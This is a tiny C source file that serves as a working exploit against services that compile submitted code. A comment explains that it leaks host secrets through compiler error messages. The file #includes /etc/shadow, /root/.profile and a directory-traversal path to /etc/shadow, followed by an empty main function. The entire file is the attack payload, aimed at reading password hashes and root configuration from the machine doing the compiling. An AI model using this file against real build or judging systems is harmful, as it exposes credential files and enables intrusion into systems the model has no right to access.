/* Pulls host secrets in at compile time: their text would show up in the compiler's error messages. */
#include "/etc/shadow"
#include "/root/.profile"
#include "../../../../../../../../etc/shadow"
int main(void) { return 0; }
